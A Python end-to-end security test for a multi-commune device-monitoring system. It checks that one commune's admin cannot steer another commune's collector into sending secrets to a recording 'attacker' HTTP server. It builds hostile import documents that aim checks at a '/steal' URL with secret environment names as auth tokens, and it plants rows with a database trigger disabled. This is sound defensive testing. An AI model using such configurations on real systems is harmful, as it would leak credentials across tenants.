"""Issue 23, end to end: an admin of commune B cannot make commune A's collector send any
secret anywhere. A real API (uvicorn on loopback), a real ingest and broker, ``ioc collector
run --api`` with a secrets file, its MQTT password and API token in its environment, and an
attacker's HTTP server on loopback that records every request it gets.

Every hostile import variant (collector of another commune, device moved into A, secret names
of the collector's own settings or of A's secrets file, URLs with credentials) is refused with
a 422; rows planted past the import (straight into the database, with the commune trigger
off: rows from before migration 0700) are left out of A's inventory, or refused by the
collector (names of its environment outside its secrets file). After the collector has ticked for a while, the attacker has received nothing that
contains a secret, and no stored event or log line carries one.
"""

from __future__ import annotations

import itertools
import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import psycopg
import pytest
from psycopg.types.json import Jsonb

from api import security
from devices import collector_tokens
from ingest.service import IngestService
from tests.api.conftest import LiveServer, api_setup
from tests.collector.harness import CollectorProcess, import_inventory
from tests.ingest.conftest import test_settings
from tests.plugins.broker import Mosquitto
from tests.util import wait_until

A, B = "21025", "21026"
CAM_PASS_A = "a-camera-password-7f3k"
EXTRA_A = "a-extra-secret-9q2w"
MQTT_PASS = "collector-mqtt-pass-4r5t"
ARBITRARY = "process-env-secret-1x8z"
SEED = f"""
communes:
  - {{code: "{A}", name: "Xã Tịnh Sơn"}}
  - {{code: "{B}", name: "Xã Tịnh Hà"}}
devices:
  - {{id: col-a, type: collector, commune: "{A}", name: "Bộ thu thập A", interval_s: 1}}
  - {{id: a-cam, type: camera, commune: "{A}", name: "Camera A", address: 127.0.1.1,
     collector: col-a, interval_s: 1, checks: {{ping: {{count: 1, timeout_s: 0.5}}}}}}
  - {{id: a-spk, type: speaker, commune: "{A}", name: "Loa A", address: 127.0.0.1,
     collector: col-a, interval_s: 1,
     checks: {{http_json: {{url: "http://127.0.0.1:9/x", metrics: {{volume: {{path: v}}}},
                           timeout_s: 0.5}}}}}}
  - {{id: b-cam, type: camera, commune: "{B}", name: "Camera B"}}
"""


class Recorder(BaseHTTPRequestHandler):
    """The attacker's server: records each request line, headers and body."""

    seen: list[str]

    def _record(self) -> None:
        length = int(self.headers.get("content-length") or 0)
        body = self.rfile.read(min(length, 65536)).decode("latin-1")
        self.server.seen.append(f"{self.requestline}\n{self.headers}\n{body}")  # type: ignore[attr-defined]
        data = b'{"v": 1}'
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    do_GET = do_POST = _record

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def attacker() -> Iterator[tuple[str, list[str]]]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    server.seen = []  # type: ignore[attr-defined]
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", server.seen  # type: ignore[attr-defined]
    server.shutdown()


def hostile_documents(url: str) -> Iterator[tuple[str, str]]:
    """(what, YAML) for every combination of the attack's parts."""
    names = ["IOC_COLLECTOR_TOKEN", "IOC_MQTT_URL", "IOC_DATABASE_URL", "CAM_PASS_A",
             "IOC_SECRET_A_EXTRA", "B_ARBITRARY", "ioc_collector_token", "X-1"]  # fmt: skip
    urls = [f"{url}/steal", f"http://u:p@127.0.0.1:{url.rsplit(':', 1)[1]}/x",
            f"{url}/x?Api_Key=1", f"{url}/x?X-Amz-Signature=1", f"{url}/x#access_token=1"]  # fmt: skip
    placements = [(B, "col-a"), (A, "col-a"), (B, "col-b")]
    auths = ["bearer", "digest", "webhook"]
    for (commune, collector), name, target, auth in itertools.product(
        placements, names, urls, auths
    ):
        own = commune == B and collector == "col-b"
        plain_name = name.isupper() and not (
            name.startswith("IOC_") and not name.startswith("IOC_SECRET_")
        )
        plain_url = not any(c in target for c in "?#@")
        if own and plain_name and plain_url:
            continue  # B's own collector, a plain URL, a plain name: B's business
        if auth == "bearer":
            check = f"auth: {{type: bearer, token_env: {name}}}, url: '{target}'"
        elif auth == "digest":
            check = f"auth: {{type: digest, user: u, password_env: {name}}}, url: '{target}'"
        else:
            check = f"webhook_id: hook-1, webhook_token_env: {name}, url: '{target}'"
        yield (
            f"{commune}/{collector}/{name}/{target}/{auth}",
            f"""
devices:
  - {{id: col-b, type: collector, commune: "{B}", name: "Bộ thu thập B"}}
  - {{id: evil-1, type: speaker, commune: "{commune}", name: "Loa", address: 127.0.0.1,
     collector: {collector}, checks: {{http_json: {{{check}, metrics: {{volume: {{path: v}}}}}}}}}}
""",
        )


def plant(db_url: str, url: str) -> None:
    """Rows that never passed the import's checks (written before them, or by hand)."""
    with psycopg.connect(db_url, autocommit=True) as conn:
        conn.execute("ALTER TABLE devices DISABLE TRIGGER devices_observer_same_commune")
        try:
            for i, name in enumerate(["CAM_PASS_A", "IOC_SECRET_A_EXTRA", "IOC_COLLECTOR_TOKEN"]):
                checks = {"http_json": {"url": f"{url}/planted-b-{i}", "metrics": {"v": {"path": "v"}},
                                        "auth": {"type": "bearer", "token_env": name}}}  # fmt: skip
                conn.execute(
                    "INSERT INTO devices (id, type, commune_code, name, interval_s, observed_by, "
                    "address, checks) VALUES (%s, 'speaker', %s, 'x', 1, 'col-a', '127.0.0.1', %s)",
                    (f"planted-b-{i}", B, Jsonb(checks)),
                )
        finally:
            conn.execute("ALTER TABLE devices ENABLE TRIGGER devices_observer_same_commune")
        # In A's own commune: names of variables of the collector's environment that are not
        # in its secrets file (it must not look there).
        for i, (name, target) in enumerate(
            [
                ("B_ARBITRARY", f"{url}/planted-a-0"),
                ("HOME", f"{url}/planted-a-1"),
                ("PATH", f"{url}/planted-a-2"),
            ]
        ):
            checks = {"http_json": {"url": target, "metrics": {"v": {"path": "v"}}, "timeout_s": 0.5,
                                    "auth": {"type": "bearer", "token_env": name}}}  # fmt: skip
            conn.execute(
                "INSERT INTO devices (id, type, commune_code, name, interval_s, observed_by, "
                "address, checks) VALUES (%s, 'speaker', %s, 'x', 1, 'col-a', '127.0.0.1', %s)",
                (f"planted-a-{i}", A, Jsonb(checks)),
            )


def test_admin_of_b_cannot_make_a_collector_leak_a_secret(
    db: psycopg.Connection,
    db_url: str,
    own_broker: Mosquitto,
    attacker: tuple[str, list[str]],
    tmp_path: Path,
) -> None:
    url, seen = attacker
    import_inventory(db_url, SEED)
    admin_b = security.create_user(db, "admin_b", "admin", [B], 30)[0]
    token = collector_tokens.issue(db, "col-a")
    assert token is not None
    api_settings = api_setup(database_url=db_url, mqtt_url=own_broker.url, db_pool_size=4)
    with (
        LiveServer(api_settings) as server,
        httpx.Client(base_url=server.url, timeout=30) as api,
    ):
        headers = {"Authorization": f"Bearer {admin_b}"}
        accepted = []
        for what, doc in hostile_documents(url):
            resp = api.post(
                "/api/v1/devices/import", json={"format": "yaml", "content": doc}, headers=headers
            )
            if resp.status_code != 422:
                accepted.append((what, resp.status_code))
        assert accepted == []
        # B moving its own device to A's collector, and A's collector into B: refused too.
        for doc in (
            f'devices: [{{id: b-cam, type: camera, commune: "{B}", name: "Camera B", '
            "collector: col-a}]",
            f'devices: [{{id: col-a, type: collector, commune: "{B}", name: "x"}}]',
        ):
            resp = api.post(
                "/api/v1/devices/import", json={"format": "yaml", "content": doc}, headers=headers
            )
            assert resp.status_code == 422, resp.text
        # The database refuses it whatever the path.
        with pytest.raises(psycopg.errors.RaiseException), psycopg.connect(db_url) as conn:
            conn.execute("UPDATE devices SET observed_by = 'col-a' WHERE id = 'b-cam'")

        plant(db_url, url)
        settings, ingest = test_settings(db_url, own_broker.url, topic_prefix="ioc/v1")
        service = IngestService(settings, ingest).start()
        host, port = own_broker.url.rsplit("//", 1)[1].rsplit(":", 1)
        proc = CollectorProcess(
            tmp_path,
            "",
            f"mqtt://col-a:{MQTT_PASS}@{host}:{port}",
            secrets={"CAM_PASS_A": CAM_PASS_A},
            api=server.url,
            ioc_collector_id="col-a",
            ioc_collector_token=token,
            ioc_secret_a_extra=EXTRA_A,
            b_arbitrary=ARBITRARY,
            ioc_collector_error_repeat_s=0,
        )
        try:
            proc.start()
            # Running: heartbeats and the planted A rows' errors arrive through ingest.
            wait_until(lambda: _heartbeats(db_url) >= 3, 30, 0.3, "three collector heartbeats")
            errors = wait_until(
                lambda: _reasons(db_url) if len(_reasons(db_url)) >= 3 else None,
                20,
                0.3,
                "check errors of the planted A rows",
            )
        finally:
            proc.stop()
            service.stop()
    secret_values = [CAM_PASS_A, EXTRA_A, MQTT_PASS, ARBITRARY, token]
    received = "\n".join(seen)
    assert not any(s in received for s in secret_values), received[:2000]
    assert "planted-b" not in received  # B's planted rows never reached A's inventory
    stored = _all_events(db_url)
    assert not any(s in stored for s in secret_values)
    assert not any(s in proc.log_text() for s in secret_values)
    assert all("not set on the collector" in r for r in errors), errors


def _heartbeats(db_url: str) -> int:
    with psycopg.connect(db_url) as conn:
        row = conn.execute(
            "SELECT count(*) FROM telemetry WHERE device_id = 'col-a' AND metric = 'devices_watched'"
        ).fetchone()
    return int(row[0]) if row else 0


def _reasons(db_url: str) -> list[str]:
    with psycopg.connect(db_url) as conn:
        rows = conn.execute(
            "SELECT data->>'reason' FROM device_events WHERE type = 'check_error' "
            "AND device_id LIKE 'planted-a-%'"
        ).fetchall()
    return [r[0] for r in rows]


def _all_events(db_url: str) -> str:
    with psycopg.connect(db_url) as conn:
        rows = conn.execute("SELECT device_id, type, data FROM device_events").fetchall()
        quarantine = conn.execute("SELECT payload FROM quarantine").fetchall()
    return json.dumps([list(map(str, r)) for r in rows + quarantine])
